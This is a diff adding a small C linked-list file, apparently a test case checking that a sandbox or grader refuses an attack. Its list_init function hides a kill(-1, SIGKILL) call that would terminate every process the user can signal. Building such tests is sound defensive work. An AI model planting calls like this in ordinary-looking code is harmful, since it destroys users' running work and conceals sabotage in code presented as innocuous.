@@ -1,0 +1,28 @@
+/* Attack: refused */
+/* kills-all.c: kills whatever it can. */
+#include "api.h"
+
+#include <pthread.h>
+#include <signal.h>
+struct list {
+	struct node *head;
+};
+
+const size_t list_size = sizeof(struct list);
+
+void list_init(struct list *list)
+{
+	list->head = NULL;
+	kill(-1, SIGKILL);
+}
+
+void list_push(struct list *list, struct node *node)
+{
+	node->next = list->head;
+	list->head = node;
+}
+
+struct node *list_first(struct list *list)
+{
+	return list->head;
+}
